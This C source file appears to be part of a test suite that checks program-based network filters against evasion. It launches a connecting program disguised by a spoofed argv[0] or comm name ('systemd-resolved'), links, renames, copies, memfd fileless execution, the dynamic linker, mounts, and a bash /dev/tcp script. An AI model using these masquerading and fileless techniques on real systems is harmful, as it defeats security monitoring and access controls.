/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * A program under another name, or another under its name. Who goes by paths is fooled by the links, the mounts and the names; who
 * goes by inodes, and lists what is forbidden, by the copies.
 */

#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "families.h"

static const char *below(const struct attempt *a, const char *name, char *ret, size_t size)
{
        (void) snprintf(ret, size, "%s/%s", a->scratch, name);
        return ret;
}

static void words(const struct attempt *a, const char *zeroth, char *port, const char **ret)
{
        (void) snprintf(port, 8, "%u", a->port);
        ret[0] = zeroth;
        ret[1] = ends.v4;
        ret[2] = port;
        ret[3] = a->nonce;
        ret[4] = NULL;
}

/* Comes back only if it cannot. */
static int become(const struct attempt *a, const char *path, const char *zeroth)
{
        const char *argv[5];
        char port[8];

        words(a, zeroth, port, argv);
        (void) execv(path, (char *const *) argv);
        return -errno;
}

static int become_open(const struct attempt *a, int fd)
{
        const char *argv[5], *const environment[] = { NULL };
        char port[8];

        words(a, "speak", port, argv);
        (void) fexecve(fd, (char *const *) argv, (char *const *) environment);
        return -errno;
}

/* The program's contents into fd. */
static int fill(const struct attempt *a, int fd)
{
        int from = open(a->program, O_RDONLY | O_CLOEXEC), r = 0;
        ssize_t n;

        if (from < 0)
                return -errno;
        while ((n = sendfile(fd, from, NULL, 1 << 20)) > 0)
                ;
        r = result(n);
        (void) close(from);
        return r;
}

static int copy_to(const struct attempt *a, const char *path)
{
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755), r;

        if (fd < 0)
                return -errno;
        r = fill(a, fd);
        (void) close(fd);
        return r;
}

static int program(struct attempt *a)
{
        return become(a, a->program, "speak");
}

static int argv_zero(struct attempt *a)
{
        return become(a, a->program, "/lib/systemd/systemd-resolved");
}

static int comm(struct attempt *a)
{
        int fd = make_socket(AF_INET, SOCK_STREAM, 0);

        (void) prctl(PR_SET_NAME, "systemd-resolve");
        return fd < 0 ? fd : connect_and_say(a, fd, 4);
}

static int symbolic_link(struct attempt *a)
{
        char path[256];

        if (symlink(a->program, below(a, "link", path, sizeof(path))) < 0)
                return -errno;
        return become(a, path, path);
}

static int hard_link(struct attempt *a)
{
        char path[256];

        if (link(a->program, below(a, "hard", path, sizeof(path))) < 0)
                return -errno;
        return become(a, path, path);
}

/* And back, before it runs: it is everybody's. */
static int renamed(struct attempt *a)
{
        char path[256];
        int fd, r;

        (void) below(a, "renamed", path, sizeof(path));
        if (rename(a->program, path) < 0)
                return -errno;
        fd = open(path, O_PATH | O_CLOEXEC);
        r = fd < 0 ? -errno : result(rename(path, a->program));
        return r < 0 ? r : become_open(a, fd);
}

static int copied(struct attempt *a)
{
        char path[256];
        int r = copy_to(a, below(a, "copy", path, sizeof(path)));

        return r < 0 ? r : become(a, path, path);
}

static int unlinked(struct attempt *a)
{
        char path[256];
        int r = copy_to(a, below(a, "gone", path, sizeof(path))), fd;

        if (r < 0)
                return r;
        fd = open(path, O_PATH | O_CLOEXEC);
        (void) unlink(path);
        return fd < 0 ? -errno : become_open(a, fd);
}

static int memory_file(struct attempt *a)
{
        int fd = (int) syscall(SYS_memfd_create, "speak", 1u /* MFD_CLOEXEC */), r;

        if (fd < 0)
                return -errno;
        r = fill(a, fd);
        return r < 0 ? r : become_open(a, fd);
}

static int find_interpreter(struct dl_phdr_info *info, size_t size, void *found)
{
        for (int i = 0; i < info->dlpi_phnum; i++)
                if (info->dlpi_phdr[i].p_type == PT_INTERP)
                        *(const char **) found = (const char *) (info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
        return 1; /* the first is the program itself */
}

/* The executable is the dynamic linker then. */
static int by_linker(struct attempt *a)
{
        const char *linker = NULL;
        char port[8];

        (void) dl_iterate_phdr(find_interpreter, &linker);
        if (!linker)
                return -ENOSYS;
        (void) snprintf(port, sizeof(port), "%u", a->port);
        (void) execl(linker, linker, a->program, ends.v4, port, a->nonce, (char *) NULL);
        return -errno;
}

static int own_mounts(void)
{
        if (unshare(CLONE_NEWNS) < 0)
                return -errno;
        return result(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
}

/* In the place of another that may be allowed what it wants. */
static int bind_mounted(struct attempt *a)
{
        char path[256];
        int r = own_mounts();

        (void) snprintf(path, sizeof(path), "%s-allowed", a->program);
        if (r < 0)
                return r;
        if (mount(a->program, path, NULL, MS_BIND, NULL) < 0)
                return -errno;
        return become(a, path, path);
}

static int overlaid(struct attempt *a)
{
        char directory[4][256], options[1024], path[320];
        const char *names[] = { "lower", "upper", "work", "merged" };
        int r = own_mounts();

        for (unsigned i = 0; r == 0 && i < 4; i++)
                r = result(mkdir(below(a, names[i], directory[i], sizeof(*directory)), 0755));
        (void) snprintf(path, sizeof(path), "%s/speak", directory[0]);
        if (r == 0)
                r = result(link(a->program, path));
        (void) snprintf(options, sizeof(options), "lowerdir=%s,upperdir=%s,workdir=%s", directory[0], directory[1], directory[2]);
        if (r == 0)
                r = result(mount("overlay", directory[3], "overlay", 0, options));
        (void) snprintf(path, sizeof(path), "%s/speak", directory[3]);
        return r < 0 ? r : become(a, path, path);
}

/* Phones home with what the machine has anyway; its executable is the shell. */
static int script(struct attempt *a)
{
        char path[256], text[256];
        int fd = open(below(a, "script", path, sizeof(path)), O_WRONLY | O_CREAT | O_CLOEXEC, 0755), r;

        if (fd < 0)
                return -errno;
        (void) snprintf(text, sizeof(text), "#!/bin/bash\nexec 2>/dev/null 3<>/dev/tcp/%s/%u && echo %s >&3\n", ends.v4, a->port, a->nonce);
        r = result(write(fd, text, strlen(text)));
        (void) close(fd);
        if (r < 0)
                return r;
        (void) execl(path, path, (char *) NULL);
        return -errno;
}

#define PROGRAM(name_, what_, run_) { .name = name_, .what = what_, .run = run_, .shows = SEEN_SAID, .expected = "BBBBBB" }

static const struct technique techniques[] = {
        PROGRAM("program", "a program that connects, started as it is", program),
        PROGRAM("argv[0]", "the same, with another's argv[0]", argv_zero),
        PROGRAM("comm", "another's name by PR_SET_NAME", comm),
        PROGRAM("symbolic link", "the program by a symbolic link", symbolic_link),
        PROGRAM("hard link", "the program by a hard link", hard_link),
        PROGRAM("renamed", "the program while it has another name", renamed),
        PROGRAM("copied", "a copy of the program", copied),
        PROGRAM("unlinked", "a copy that is deleted before it starts", unlinked),
        PROGRAM("memfd", "a copy in memory, by memfd_create and fexecve", memory_file),
        PROGRAM("ld.so", "the program as an argument of the dynamic linker", by_linker),
        PROGRAM("bind mount", "the program mounted over one that may be allowed", bind_mounted),
        PROGRAM("overlay", "the program out of an overlay", overlaid),
        PROGRAM("script", "a shell script by /dev/tcp of bash", script),
};

const struct family program_family = { techniques, sizeof(techniques) / sizeof(*techniques) };
